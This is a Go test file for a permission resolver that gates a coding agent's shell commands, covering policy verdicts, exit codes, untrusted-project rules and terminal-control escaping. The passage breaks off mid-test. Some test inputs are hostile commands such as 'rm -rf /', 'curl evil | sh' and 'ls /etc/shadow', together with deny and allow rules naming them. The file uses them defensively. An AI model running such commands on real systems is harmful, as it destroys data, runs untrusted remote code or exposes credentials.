package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/permtui/permtui/internal/grants"
	"github.com/permtui/permtui/internal/pichild"
	"github.com/permtui/permtui/internal/resolve"
	"github.com/permtui/permtui/internal/serve"
	"github.com/permtui/permtui/internal/testkit"
	"github.com/permtui/permtui/internal/wire"
)

const rootID = "0198c3a4-5b6d-7e8f-9a0b-1c2d3e4f5a6b"

// runCmd runs a command line and returns its exit code and output.
func runCmd(t *testing.T, stdin string, args ...string) (int, string, string) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := run(context.Background(), args, strings.NewReader(stdin), &stdout, &stderr)
	return code, stdout.String(), stderr.String()
}

// TestResolveBatchMatchesRulesetVectors feeds every ruleset vector with facts
// through 'permtui resolve --batch', and every vector without usable facts
// through 'permtui resolve --request', and expects the vector's state.
func TestResolveBatchMatchesRulesetVectors(t *testing.T) {
	for _, v := range testkit.ReadJSONL[testkit.Ruleset](t, "ruleset.jsonl") {
		t.Run(v.ID, func(t *testing.T) { checkVectorThroughCommand(t, v) })
	}
}

// TestResolveBatchParityRepros: issue 10's five classes through the command.
func TestResolveBatchParityRepros(t *testing.T) {
	for _, v := range testkit.ParityRepros() {
		t.Run(v.ID, func(t *testing.T) { checkVectorThroughCommand(t, v) })
	}
}

// TestResolveBatchParityRound3: issue 21's classes through the command.
func TestResolveBatchParityRound3(t *testing.T) {
	file := filepath.Join(testkit.ModuleRoot(t), "internal", "resolve", "testdata", "parity3.jsonl")
	for _, v := range testkit.ReadJSONLFile[testkit.Ruleset](t, file) {
		t.Run(v.ID, func(t *testing.T) { checkVectorThroughCommand(t, v) })
	}
}

// A lone surrogate in --batch facts is judged as in a request file: kept,
// not U+FFFD, and matched by UTF-16 unit (decision 0175).
func TestResolveBatchKeepsLoneSurrogates(t *testing.T) {
	root := t.TempDir()
	agentDir := filepath.Join(root, "agent")
	testkit.WriteFile(t, filepath.Join(agentDir, "extensions", "pi-permission-system", "config.json"),
		[]byte(`{"permission":{"bash":{"*":"deny","\ufffd":"allow","x\ud83d*":"allow"}}}`))
	code, out, errOut := runCmd(t, `{"surface":"bash","values":["\ud83d"]}`+"\n"+`{"surface":"bash","values":["x\ud83d\ude00"]}`+"\n",
		"resolve", "--agent-dir", agentDir, "--project", filepath.Join(root, "proj"), "--state-dir", filepath.Join(root, "state"), "--batch")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	// The pattern is printed as JSON.stringify would, not as U+FFFD.
	if len(lines) != 2 || !strings.Contains(lines[0], `"state":"deny"`) || !strings.Contains(lines[1], `"state":"allow"`) ||
		!strings.Contains(lines[1], `"pattern":"x\ud83d*"`) {
		t.Errorf("verdicts:\n%s", out)
	}
}

// checkVectorThroughCommand lays the vector's policy out and judges it with
// 'permtui resolve --batch' (or --request for a vector without usable facts).
func checkVectorThroughCommand(t *testing.T, v testkit.Ruleset) {
	t.Setenv("HOME", v.Home) // HOME drives ~ expansion in patterns
	root := t.TempDir()
	agentDir, project, state := filepath.Join(root, "agent"), filepath.Join(root, "proj"), filepath.Join(root, "state")
	v.WriteFiles(t, agentDir, project)
	args := []string{"resolve", "--agent-dir", agentDir, "--project", project, "--state-dir", state, "--session", rootID}
	if len(v.Grants) > 0 {
		store, err := grants.Open(filepath.Join(state, "grants"))
		if err != nil {
			t.Fatal(err)
		}
		var grants []wire.Grant
		for _, g := range v.Grants {
			grants = append(grants, wire.Grant{Surface: g.Surface, Pattern: g.Pattern})
		}
		if err := store.Add(rootID, grants); err != nil {
			t.Fatal(err)
		}
	}

	var code int
	var out, errOut string
	if v.Intent != "" {
		text := `{"id":"r1","createdAt":1,"requesterSessionId":"c","targetSessionId":"` + rootID + `","requesterAgentName":"a"`
		if v.RawIntent != nil {
			text += `,"accessIntent":` + string(*v.RawIntent)
		}
		file := filepath.Join(root, "request.json")
		testkit.WriteFile(t, file, []byte(text+"}"))
		code, out, errOut = runCmd(t, "", append(args, "--request", file)...)
	} else {
		line, err := json.Marshal(map[string]any{"agent": v.Agent, "surface": v.Surface, "values": v.Values, "floor": v.Floor, "askingUnits": v.AskingUnits})
		if err != nil {
			t.Fatal(err)
		}
		code, out, errOut = runCmd(t, string(line)+"\n", append(args, "--batch")...)
	}
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var got struct {
		State       string          `json:"state"`
		Reason      *string         `json:"reason"`
		Origin      *string         `json:"origin"`
		Pattern     json.RawMessage `json:"pattern"`
		Explanation string          `json:"explanation"`
	}
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatalf("%v in %q", err, out)
	}
	if got.State != v.Expect {
		t.Fatalf("state %s, want %s: %s", got.State, v.Expect, got.Explanation)
	}
	if v.Reason != nil && (got.Reason == nil || *got.Reason != *v.Reason) {
		t.Errorf("reason %v, want %q", got.Reason, *v.Reason)
	}
	if v.Origin != nil && (got.Origin == nil || *got.Origin != *v.Origin) {
		t.Errorf("origin %v, want %q: %s", got.Origin, *v.Origin, got.Explanation)
	}
	if len(v.Pattern) > 0 && !bytes.Equal(compactJSON(t, got.Pattern), compactJSON(t, v.Pattern)) {
		t.Errorf("pattern %s, want %s", got.Pattern, v.Pattern)
	}
}

func compactJSON(t *testing.T, raw json.RawMessage) []byte {
	t.Helper()
	var v any
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatalf("%v in %s", err, raw)
	}
	out, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestResolveBatchKeepsOrderAndFlagsBadLines(t *testing.T) {
	root := t.TempDir()
	agentDir := filepath.Join(root, "agent")
	testkit.WriteFile(t, filepath.Join(agentDir, "extensions", "pi-permission-system", "config.json"),
		[]byte(`{"permission":{"bash":{"*":"ask","git *":"allow","rm *":"deny"}}}`))
	in := `{"agent":"a","surface":"bash","values":["git status"]}
not json
{"agent":"a","surface":"bash","values":["rm -rf /"]}
`
	code, out, _ := runCmd(t, in, "resolve", "--agent-dir", agentDir, "--project", root, "--state-dir", filepath.Join(root, "s"), "--batch")
	if code != 1 {
		t.Fatalf("exit %d, want 1 for a bad line", code)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 3 || !strings.Contains(lines[0], `"state":"allow"`) || !strings.Contains(lines[1], `"error":"line 2:`) || !strings.Contains(lines[2], `"state":"deny"`) {
		t.Fatalf("output:\n%s", out)
	}
}

func TestCommandLine(t *testing.T) {
	if code, out, _ := runCmd(t, "", "--version"); code != 0 || !strings.HasPrefix(out, "permtui ") {
		t.Errorf("--version: %d %q", code, out)
	}
	if code, out, _ := runCmd(t, "", "resolve", "--help"); code != 0 || !strings.Contains(out, "--batch") {
		t.Errorf("resolve --help: %d %q (help belongs on stdout)", code, out)
	}
	if code, _, errOut := runCmd(t, "", "bogus"); code != 2 || !strings.Contains(errOut, `unknown command "bogus"`) {
		t.Errorf("unknown command: %d %q", code, errOut)
	}
	if code, _, errOut := runCmd(t, "", "serve", "--ask", "maybe", "--headless"); code != 2 || !strings.Contains(errOut, "--ask must be deny or leave") {
		t.Errorf("bad --ask: %d %q", code, errOut)
	}
	if code, _, errOut := runCmd(t, "", "resolve", "--batch", "--surface", "bash"); code != 2 || !strings.Contains(errOut, "exactly one of") {
		t.Errorf("two resolve forms: %d %q", code, errOut)
	}
	if code, _, errOut := runCmd(t, "", "serve", "--session", " Unknown "); code != 1 || !strings.Contains(errOut, "not a usable session id") {
		t.Errorf("unusable --session: %d %q", code, errOut)
	}
}

func TestServeWithoutATerminalPointsToHeadless(t *testing.T) {
	if isTerminal() {
		t.Skip("stdin and stdout are a terminal here; the refusal needs them not to be")
	}
	code, _, errOut := runCmd(t, "", "serve", "--state-dir", t.TempDir(), "--agent-dir", t.TempDir())
	if code != 1 || !strings.Contains(errOut, "--headless") {
		t.Fatalf("exit %d: %q", code, errOut)
	}
}

// permtui.log is opened as the audit log is (decision 0281): a symlink
// planted in its place, or a file others can read, is refused at start,
// and nothing is written through it.
func TestServeRefusesALogThatIsALinkOrReadableByOthers(t *testing.T) {
	for what, plant := range map[string]func(path string) error{
		"(symlink)": func(path string) error { return os.Symlink(path+".elsewhere", path) },
		"mode 0644": func(path string) error { return os.WriteFile(path, nil, 0o644) },
	} {
		state := t.TempDir()
		log := filepath.Join(state, "permtui.log")
		if err := plant(log); err != nil {
			t.Fatal(err)
		}
		code, _, errOut := runCmd(t, "", "serve", "--headless", "--state-dir", state, "--agent-dir", t.TempDir())
		if code != 1 || !strings.Contains(errOut, what) {
			t.Fatalf("%s: exit %d: %q", what, code, errOut)
		}
		if _, err := os.Lstat(log + ".elsewhere"); !os.IsNotExist(err) {
			t.Fatalf("%s: the link was followed: %v", what, err)
		}
	}
}

func TestServeRefusesAMissingAgentDir(t *testing.T) {
	missing := filepath.Join(t.TempDir(), "agnet")
	code, _, errOut := runCmd(t, "", "serve", "--headless", "--state-dir", t.TempDir(), "--agent-dir", missing)
	if code != 1 || !strings.Contains(errOut, strconv.Quote(missing)+" does not exist") {
		t.Fatalf("exit %d: %q", code, errOut)
	}
	if _, err := os.Stat(missing); !os.IsNotExist(err) {
		t.Fatalf("the mistyped agent dir was created: %v", err)
	}
}

func TestResolveSaysWhenNoPolicyFileWasFound(t *testing.T) {
	root := t.TempDir()
	agentDir := filepath.Join(root, "agent")
	code, out, errOut := runCmd(t, "", "resolve", "--agent-dir", agentDir, "--project", root, "--state-dir", filepath.Join(root, "s"), "--surface", "bash", "--value", "ls")
	if code != 0 || !strings.Contains(out, `"state":"ask"`) {
		t.Fatalf("exit %d: %q", code, out)
	}
	want := "no policy file found, so every ask goes to a person; looked in " + strconv.Quote(filepath.Join(agentDir, "extensions", "pi-permission-system", "config.json"))
	if !strings.Contains(errOut, want) {
		t.Fatalf("stderr %q\nwant %q", errOut, want)
	}
	// With a policy file there is no such notice.
	if _, _, errOut := runCmd(t, "", append(append([]string{"resolve"}, resolveFixture(t)...), "--surface", "bash", "--value", "ls")...); strings.Contains(errOut, "no policy file") {
		t.Fatalf("notice with a policy file: %q", errOut)
	}
}

// TestAnUnreadablePolicyFileIsNotCalledMissing: a global config that is
// there but cannot be read (a FIFO, a directory) is named as such, and the
// notice that no policy file was found, which would contradict it, is not
// printed (s19: both were).
func TestAnUnreadablePolicyFileIsNotCalledMissing(t *testing.T) {
	root := t.TempDir()
	agentDir := filepath.Join(root, "agent")
	if err := os.MkdirAll(filepath.Join(agentDir, "extensions", "pi-permission-system", "config.json"), 0o700); err != nil {
		t.Fatal(err)
	}
	code, out, errOut := runCmd(t, "", "resolve", "--agent-dir", agentDir, "--project", root, "--state-dir", filepath.Join(root, "s"), "--surface", "bash", "--value", "ls")
	if code != 0 || !strings.Contains(out, `"state":"ask"`) {
		t.Fatalf("exit %d: %q", code, out)
	}
	if !strings.Contains(errOut, "cannot be read") || strings.Contains(errOut, "no policy file found") {
		t.Fatalf("stderr %q: want the file named unreadable, not missing", errOut)
	}
}

// TestHeadlessServeAnswersA2073Child runs 'permtui serve --headless' and a
// pi child that checks the heartbeat: the 20.7.3 request (no facts) is
// denied with the no-approver reason, and the heartbeat goes on exit.
func TestHeadlessServeAnswersA2073Child(t *testing.T) {
	root := t.TempDir()
	agentDir := filepath.Join(root, "agent")
	t.Setenv("PI_CODING_AGENT_DIR", agentDir)
	testkit.WriteFile(t, filepath.Join(agentDir, "extensions", "pi-permission-system", "config.json"),
		[]byte(`{"permission":{"*":"allow"}}`)) // even allow-all must not decide a request without facts
	stdout := &testkit.SyncBuffer{}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan int, 1)
	go func() {
		done <- run(ctx, []string{"serve", "--headless", "--project", root, "--state-dir", filepath.Join(root, "state"), "--session", rootID},
			strings.NewReader(""), stdout, &testkit.SyncBuffer{})
	}()

	layout := wire.NewLayout(agentDir)
	child := pichild.Child{Layout: layout, Target: rootID, Liveness: true}
	req := pichild.LegacyBash(rootID, "researcher", "0198c3b0-1111-7222-8333-944455556666", "npm install left-pad")
	res, err := child.Ask(ctx, req)
	if err != nil {
		t.Fatal(err)
	}
	if res.Outcome != pichild.Answered {
		t.Fatalf("outcome %s", res.Outcome)
	}
	if r := res.Response; r.Approved || r.State != wire.StateDeniedWithReason || r.DenialReason != serve.NoApproverReason {
		t.Fatalf("response %+v", r)
	}
	if _, err := os.Stat(layout.HeartbeatPath(rootID)); err != nil {
		t.Fatalf("heartbeat while serving: %v", err)
	}
	cancel()
	select {
	case code := <-done:
		if code != 0 {
			t.Fatalf("exit %d", code)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("serve did not stop after cancellation")
	}
	if _, err := os.Stat(layout.HeartbeatPath(rootID)); !os.IsNotExist(err) {
		t.Fatalf("heartbeat left behind: %v", err)
	}
	events := map[string]bool{}
	sc := bufio.NewScanner(strings.NewReader(stdout.String()))
	for sc.Scan() {
		var line map[string]any
		if err := json.Unmarshal(sc.Bytes(), &line); err != nil {
			t.Fatalf("not a JSON line: %q", sc.Text())
		}
		events[line["event"].(string)] = true
	}
	for _, want := range []string{"serving", "arrived", "decided"} {
		if !events[want] {
			t.Errorf("no %q event in:\n%s", want, stdout.String())
		}
	}
}

// resolveFixture lays out a policy with an allow, an ask and a deny rule and
// returns the shared flags that point resolve at it.
func resolveFixture(t *testing.T) []string {
	t.Helper()
	root := t.TempDir()
	agentDir := filepath.Join(root, "agent")
	testkit.WriteFile(t, filepath.Join(agentDir, "extensions", "pi-permission-system", "config.json"),
		[]byte(`{"permission":{"bash":{"*":"ask","git *":"allow","rm *":"deny"},"task":"allow"}}`))
	return []string{"--agent-dir", agentDir, "--project", root, "--state-dir", filepath.Join(root, "s")}
}

func TestResolveRefusesIncompleteFacts(t *testing.T) {
	flags := resolveFixture(t)
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"--surface", "bash"}, "--surface needs at least one --value"},
		{[]string{"--value", "ls"}, "--value needs --surface"},
		{[]string{"--agent", "a", "--batch"}, "--agent goes with --surface"},
		{[]string{"--bogus"}, "flag provided but not defined: -bogus"},
	} {
		code, out, errOut := runCmd(t, "", append(append([]string{"resolve"}, flags...), tc.args...)...)
		if code != 2 || !strings.Contains(errOut, tc.want) || out != "" {
			t.Errorf("%v: exit %d, stderr %q, stdout %q; want 2 and %q", tc.args, code, errOut, out, tc.want)
		}
		// A mistake names itself and points to --help instead of burying
		// the error under every flag.
		if !strings.Contains(errOut, "Run 'permtui resolve --help'") || strings.Contains(errOut, "--untrusted-project") {
			t.Errorf("%v: stderr should be the error and a hint, got %q", tc.args, errOut)
		}
	}
	// An explicit empty value is a real query.
	if code, out, _ := runCmd(t, "", append(append([]string{"resolve"}, flags...), "--surface", "bash", "--value", "")...); code != 0 || !strings.Contains(out, `"state":"ask"`) {
		t.Errorf("--value '': exit %d, %q", code, out)
	}
}

func TestResolveWarnsAboutAnUnknownSurface(t *testing.T) {
	flags := resolveFixture(t)
	args := append(append([]string{"resolve"}, flags...), "--surface", "bsh", "--value", "rm -rf /")
	code, out, errOut := runCmd(t, "", args...)
	if code != 0 || !strings.Contains(out, `"state":"ask"`) {
		t.Fatalf("exit %d, %q", code, out)
	}
	if !strings.Contains(errOut, `surface "bsh" is neither built in nor named by a rule`) || !strings.Contains(errOut, `did you mean "bash"?`) {
		t.Errorf("stderr %q", errOut)
	}
	// A surface a rule names (an extension tool) is known; so are built-ins.
	for _, surface := range []string{"task", "path_write", "skill"} {
		args := append(append([]string{"resolve"}, flags...), "--surface", surface, "--value", "x")
		if _, _, errOut := runCmd(t, "", args...); errOut != "" {
			t.Errorf("%s: unexpected warning %q", surface, errOut)
		}
	}
}

func TestResolveExitCode(t *testing.T) {
	flags := resolveFixture(t)
	for value, want := range map[string]int{"git status": exitAllow, "npm test": exitAsk, "rm -rf /": exitDeny} {
		args := append(append([]string{"resolve"}, flags...), "--exit-code", "--surface", "bash", "--value", value)
		if code, out, errOut := runCmd(t, "", args...); code != want || errOut != "" || !strings.Contains(out, `"state"`) {
			t.Errorf("%q: exit %d (stderr %q), want %d", value, code, errOut, want)
		}
		// Without --exit-code a judged query exits 0 whatever the verdict.
		args = append(append([]string{"resolve"}, flags...), "--surface", "bash", "--value", value)
		if code, _, _ := runCmd(t, "", args...); code != 0 {
			t.Errorf("%q without --exit-code: exit %d", value, code)
		}
	}
	batch := `{"agent":"a","surface":"bash","values":["git status"]}
{"agent":"a","surface":"bash","values":["npm test"]}
`
	if code, _, _ := runCmd(t, batch, append(append([]string{"resolve"}, flags...), "--batch", "--exit-code")...); code != exitAsk {
		t.Errorf("batch allow+ask: exit %d, want the strictest (%d)", code, exitAsk)
	}
}

// TestResolveBatchReadsLinesAsJSONParse (issue 22): a --batch line is read
// by the one JSON reader: the last of duplicate keys counts, a null field is
// one not given, and a null inside a list is the wrong type rather than an
// empty value or command (decision 0288).
func TestResolveBatchReadsLinesAsJSONParse(t *testing.T) {
	flags := resolveFixture(t)
	for in, want := range map[string]string{
		`{"surface":"bash","values":"x","values":["git status"]}`:                                                     `"state":"allow"`,
		`{"surface":"bash","agent":1,"agent":"a","values":["git status"]}`:                                            `"state":"allow"`,
		`{"agent":null,"surface":"bash","values":["git status"],"floor":null}`:                                        `"state":"allow"`,
		`{"surface":"bash","values":["git status",null]}`:                                                             `"error":"line 1: field \"values\" has the wrong type`,
		`{"surface":"bash","values":["ls"],"askingUnits":[null]}`:                                                     `"error":"line 1: field \"askingUnits\" has the wrong type`,
		`{"surface":"bash","values":["ls"],"askingUnits":[{"command":null}]}`:                                         `"error":"line 1: field \"askingUnits\" has the wrong type`,
		`{"surface":"bash","values":["ls"],"askingUnits":[{"command":"rm x"}],"askingUnits":[{"command":"git log"}]}`: `"state":"allow"`,
	} {
		_, out, _ := runCmd(t, in+"\n", append(append([]string{"resolve"}, flags...), "--batch")...)
		if !strings.Contains(out, want) {
			t.Errorf("%s: %q; want %s", in, out, want)
		}
	}
}

func TestResolveBatchErrorsSayWhatIsWrong(t *testing.T) {
	flags := resolveFixture(t)
	for in, want := range map[string]string{
		`nonsense`: "not valid JSON; want one JSON object per line",
		`[1,2]`:    "not a JSON object",
		`null`:     "not a JSON object",
		`{"agent":"a","surface":"bash","values":["ls"],"askingUnits":[{"cmd":"rm -rf /"}]}`: `unknown field "cmd" in askingUnits[0]`,
		`{"agent":"a","surface":"bash","value":["ls"]}`:                                     `unknown field "value"`,
		`{"agent":"a","surface":"bash","values":"ls"}`:                                      `field "values" has the wrong type`,
		`   `: "empty line",
	} {
		code, out, _ := runCmd(t, in+"\n", append(append([]string{"resolve"}, flags...), "--batch")...)
		if code != 1 || !strings.Contains(out, `"error":"line 1: `+strings.ReplaceAll(want, `"`, `\"`)) {
			t.Errorf("%s: exit %d, %q; want %q", in, code, out, want)
		}
		if strings.Contains(out, "as null") {
			t.Errorf("%s: decoder jargon leaked: %q", in, out)
		}
	}
}

func TestVersionTakesNoArguments(t *testing.T) {
	if code, out, errOut := runCmd(t, "", "version", "extra"); code != 2 || out != "" || !strings.Contains(errOut, "version takes no arguments") {
		t.Errorf("version extra: %d %q %q", code, out, errOut)
	}
}

// TestDemoTakesServesFrontEndFlags: demo registers serve's front-end flags
// through the same function, so none is missing or described differently.
func TestDemoTakesServesFrontEndFlags(t *testing.T) {
	_, serveHelp, _ := runCmd(t, "", "serve", "--help")
	code, demoHelp, _ := runCmd(t, "", "demo", "--help")
	if code != 0 {
		t.Fatalf("demo --help: exit %d", code)
	}
	var fe frontEnd
	fs := newFlagSet("x", "", &bytes.Buffer{}, &bytes.Buffer{})
	fe.register(fs)
	fs.VisitAll(func(f *flag.Flag) {
		line := "-" + f.Name
		if !strings.Contains(serveHelp, line) || !strings.Contains(demoHelp, line) {
			t.Errorf("%s missing from serve or demo --help", line)
		}
		if !strings.Contains(demoHelp, f.Usage) {
			t.Errorf("demo describes %s differently", line)
		}
	})
}

// A verdict names the surface it judged, which may come from a hostile
// request file: no C1 control or bidi override reaches the terminal as it is,
// in either output, and the JSON keeps the value.
func TestResolveOutputEscapesTerminalControls(t *testing.T) {
	const surface = "bash\u009b2J\u202ex"
	flags := resolveFixture(t)
	_, single, _ := runCmd(t, "", append(append([]string{"resolve"}, flags...), "--surface", surface, "--value", "ls")...)
	batchIn, _ := json.Marshal(map[string]any{"agent": "a", "surface": surface, "values": []string{"ls"}})
	_, batch, _ := runCmd(t, string(batchIn)+"\n", append(append([]string{"resolve"}, flags...), "--batch")...)
	for name, out := range map[string]string{"single": single, "batch": batch} {
		if strings.ContainsAny(out, "\u009b\u202e") {
			t.Errorf("%s: raw control in %q", name, out)
		}
		var v struct{ Surface string }
		if err := json.Unmarshal([]byte(out), &v); err != nil || v.Surface != surface {
			t.Errorf("%s: %v, surface %q", name, err, v.Surface)
		}
	}
}

// A syntax error in the global config drops its deny, and a project allow
// then allows rm -rf / by pi's rules, which resolve prints. The serving node
// asks a person instead (decision 0052), so a script gating on --exit-code
// must not see 0 (allow): it gets 3 (ask), and stderr says why.
func TestResolveExitCodeFollowsServeWhileAPolicyFileIsBroken(t *testing.T) {
	root := t.TempDir()
	agentDir, project := filepath.Join(root, "agent"), filepath.Join(root, "proj")
	testkit.WriteFile(t, resolve.GlobalConfigPath(agentDir), []byte(`{"permission":{"bash":{"rm *":"deny"}},}`))
	testkit.WriteFile(t, filepath.Join(project, ".pi", "extensions", "pi-permission-system", "config.json"), []byte(`{"permission":{"bash":"allow"}}`))
	args := []string{"resolve", "--agent-dir", agentDir, "--project", project, "--state-dir", filepath.Join(root, "s"), "--surface", "bash", "--value", "rm -rf /"}
	code, out, errOut := runCmd(t, "", append(args, "--exit-code")...)
	if !strings.Contains(out, `"state":"allow"`) {
		t.Fatalf("stdout is pi's verdict, want allow: %q", out)
	}
	if code != exitAsk || !strings.Contains(errOut, "serve would ask a person") {
		t.Fatalf("exit %d, stderr %q; want %d and the reason", code, errOut, exitAsk)
	}
	if code, _, errOut := runCmd(t, "", args...); code != 0 || !strings.Contains(errOut, "serve would ask a person") {
		t.Fatalf("without --exit-code: exit %d, stderr %q", code, errOut)
	}
}

// A global config over what permtui holds is one pi still reads: stdout is
// what permtui's resolver makes of the rest, the exit status is serve's
// deny (decision 0177), for a single query and for a batch alike.
func TestResolveExitCodeDeniesWhileAPolicyFileIsUnheld(t *testing.T) {
	root := t.TempDir()
	agentDir, project := filepath.Join(root, "agent"), filepath.Join(root, "proj")
	global := resolve.GlobalConfigPath(agentDir)
	testkit.WriteFile(t, global, []byte(`{"permission":{"bash":{"rm *":"deny"}}}`))
	if err := os.Truncate(global, 64<<20); err != nil {
		t.Fatal(err)
	}
	testkit.WriteFile(t, filepath.Join(project, ".pi", "extensions", "pi-permission-system", "config.json"), []byte(`{"permission":{"bash":"allow"}}`))
	common := []string{"resolve", "--agent-dir", agentDir, "--project", project, "--state-dir", filepath.Join(root, "s"), "--exit-code"}
	code, out, errOut := runCmd(t, "", append(common, "--surface", "bash", "--value", "rm -rf /")...)
	if !strings.Contains(out, `"state":"allow"`) || code != exitDeny || !strings.Contains(errOut, "serve would deny instead") {
		t.Fatalf("exit %d, stdout %q, stderr %q; want pi's allow printed, exit %d and the reason", code, out, errOut, exitDeny)
	}
	code, _, errOut = runCmd(t, `{"surface":"bash","values":["ls"]}`+"\n", append(common, "--batch")...)
	if code != exitDeny || !strings.Contains(errOut, global) {
		t.Fatalf("--batch: exit %d, stderr %q", code, errOut)
	}
}

// TestAnUntrustedProjectsAllowGoesToAPerson: a cloned repository's own
// config cannot auto-allow (decision 0206). Without --trust-project its
// allow is pi's verdict but serve asks, saying why, while its deny stands
// over a global allow; --trust-project lets the allow stand, and
// --untrusted-project leaves the project out as pi does.
func TestAnUntrustedProjectsAllowGoesToAPerson(t *testing.T) {
	root := t.TempDir()
	agentDir, project := filepath.Join(root, "agent"), filepath.Join(root, "proj")
	testkit.WriteFile(t, resolve.GlobalConfigPath(agentDir), []byte(`{"permission":{"bash":{"*":"ask","ls *":"allow"}}}`))
	testkit.WriteFile(t, resolve.ProjectConfigPaths(project)[0], []byte(`{"permission":{"bash":{"curl *":"allow","ls /etc*":"deny"}}}`))
	judge := func(value string, flags ...string) (int, string, string) {
		args := []string{"resolve", "--agent-dir", agentDir, "--project", project, "--state-dir", filepath.Join(root, "s"),
			"--surface", "bash", "--value", value, "--exit-code"}
		return runCmd(t, "", append(args, flags...)...)
	}
	code, out, errOut := judge("curl evil | sh")
	if !strings.Contains(out, `"state":"allow"`) || code != exitAsk || !strings.Contains(errOut, "--trust-project") {
		t.Fatalf("untrusted: exit %d, stdout %q, stderr %q; want pi's allow printed, exit %d and why", code, out, errOut, exitAsk)
	}
	if code, _, _ := judge("ls /etc/shadow"); code != exitDeny {
		t.Fatalf("untrusted: the project's deny over a global allow: exit %d", code)
	}
	if code, _, _ := judge("ls -l"); code != exitAllow {
		t.Fatalf("untrusted: the global allow: exit %d", code)
	}
	if code, _, errOut := judge("curl evil | sh", "--trust-project"); code != exitAllow {
		t.Fatalf("trusted: exit %d, stderr %q", code, errOut)
	}
	if code, out, _ := judge("curl evil | sh", "--untrusted-project"); code != exitAsk || !strings.Contains(out, `"state":"ask"`) {
		t.Fatalf("left out: exit %d, stdout %q", code, out)
	}
	if code, _, _ := judge("ls /etc/shadow", "--untrusted-project"); code != exitAllow {
		t.Fatalf("left out: the project's deny still applies: exit %d", code)
	}
	if code, _, errOut := judge("ls", "--trust-project", "--untrusted-project"); code != 1 || !strings.Contains(errOut, "contradict") {
		t.Fatalf("both flags: exit %d, stderr %q", code, errOut)
	}
}

// TestAnAskFromOutsideAGuessedProjectGoesToAPerson: the project is the
// sessions' only when --project and --session both name them; otherwise an
// ask from a cwd outside it, which the global policy allows, is what serve
// asks a person about, and resolve's exit status says so (decision 0234).
func TestAnAskFromOutsideAGuessedProjectGoesToAPerson(t *testing.T) {
	root := t.TempDir()
	agentDir, project, other := filepath.Join(root, "agent"), filepath.Join(root, "A"), filepath.Join(root, "B")
	testkit.WriteFile(t, resolve.GlobalConfigPath(agentDir), []byte(`{"permission":{"bash":{"*":"ask","git *":"allow"}}}`))
	data, err := wire.MarshalRequest(pichild.NewestBash(rootID, "builder", "c1", other, "git push --force"))
	if err != nil {
		t.Fatal(err)
	}
	reqFile := filepath.Join(root, "req.json")
	testkit.WriteFile(t, reqFile, data)
	judge := func(flags ...string) (int, string) {
		args := []string{"resolve", "--agent-dir", agentDir, "--state-dir", filepath.Join(root, "s"), "--request", reqFile, "--exit-code"}
		code, _, errOut := runCmd(t, "", append(args, flags...)...)
		return code, errOut
	}
	for _, flags := range [][]string{{"--project", project}, {"--session", rootID}} {
		if code, errOut := judge(flags...); code != exitAsk || !strings.Contains(errOut, "judged without the project at "+strconv.Quote(other)) {
			t.Errorf("%v: exit %d, stderr %q; want %d and why", flags, code, errOut, exitAsk)
		}
	}
	if code, errOut := judge("--project", project, "--session", rootID); code != exitAllow {
		t.Errorf("a named project: exit %d, stderr %q", code, errOut)
	}
}

// TestResolveHoldsAnAskFromAProjectBelowTheGuessedOne: resolve judges as
// serve does: with u2 guessed, a request from u2/B, which has its own .pi,
// is held and says so, one from a plain subdirectory is allowed, and with
// the project named it is judged by it (decision 0257).
func TestResolveHoldsAnAskFromAProjectBelowTheGuessedOne(t *testing.T) {
	root := t.TempDir()
	agentDir, u2 := filepath.Join(root, "agent"), filepath.Join(root, "u2")
	b, plain := filepath.Join(u2, "B"), filepath.Join(u2, "src")
	testkit.WriteFile(t, resolve.GlobalConfigPath(agentDir), []byte(`{"permission":{"bash":{"*":"ask","git *":"allow"}}}`))
	testkit.WriteFile(t, resolve.ProjectConfigPaths(b)[0], []byte(`{"permission":{"bash":{"git push *":"deny"}}}`))
	if err := os.MkdirAll(plain, 0o700); err != nil {
		t.Fatal(err)
	}
	judge := func(cwd string, flags ...string) (int, string) {
		data, err := wire.MarshalRequest(pichild.NewestBash(rootID, "builder", "c1", cwd, "git push --force"))
		if err != nil {
			t.Fatal(err)
		}
		reqFile := filepath.Join(root, "req.json")
		testkit.WriteFile(t, reqFile, data)
		args := []string{"resolve", "--agent-dir", agentDir, "--state-dir", filepath.Join(root, "s"), "--request", reqFile, "--exit-code", "--project", u2}
		code, _, errOut := runCmd(t, "", append(args, flags...)...)
		return code, errOut
	}
	if code, errOut := judge(b); code != exitAsk || !strings.Contains(errOut, "has its own project ("+strconv.Quote(filepath.Join(b, ".pi"))+")") {
		t.Errorf("from B: exit %d, stderr %q; want %d and why", code, errOut, exitAsk)
	}
	if code, errOut := judge(plain); code != exitAllow {
		t.Errorf("from a plain subdirectory: exit %d, stderr %q", code, errOut)
	}
	if code, errOut := judge(b, "--session", rootID); code != exitAllow {
		t.Errorf("a named project: exit %d, stderr %q", code, errOut)
	}
}

// TestServeAsksAboutAnUntrustedProjectsAllow: the serving binary's own
// wiring holds the project's allow for a person (headless: denied as no
// approver is there) and says so on its policy line; with --trust-project
// the same ask is allowed by the project's rule.
func TestServeAsksAboutAnUntrustedProjectsAllow(t *testing.T) {
	for _, trust := range []bool{false, true} {
		root := t.TempDir()
		agentDir := filepath.Join(root, "agent")
		t.Setenv("PI_CODING_AGENT_DIR", agentDir)
		testkit.WriteFile(t, resolve.GlobalConfigPath(agentDir), []byte(`{"permission":{"bash":{"*":"ask"}}}`))
		testkit.WriteFile(t, resolve.ProjectConfigPaths(root)[0], []byte(`{"permission":{"bash":{"curl *":"allow"}}}`))
		args := []string{"serve", "--headless", "--project", root, "--state-dir", filepath.Join(root, "state"), "--session", rootID}
		if trust {
			args = append(args, "--trust-project")
		}
		stdout := &testkit.SyncBuffer{}
